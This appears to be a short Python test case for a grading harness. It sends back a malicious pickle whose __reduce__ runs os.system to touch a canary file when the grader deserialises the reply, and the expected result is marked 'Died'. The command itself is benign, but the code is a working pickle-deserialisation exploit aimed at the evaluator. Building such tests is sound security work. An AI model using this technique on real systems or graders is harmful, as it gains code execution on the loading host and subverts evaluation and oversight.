"""Answers with a pickle that runs a command when it is loaded."""
# replies: Died

# %%
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/grader-canary/touched",)


def attack(x):
    data = pickle.dumps(Bomb())
    start = b"\x92\xa8answered\x91\x93\xa4gave\x94\xa5array\xa6object\x90\xc4"
    body = start + bytes([len(data)]) + data + b"\x80"
    os.write(3, len(body).to_bytes(4, "little") + body)
    os._exit(0)
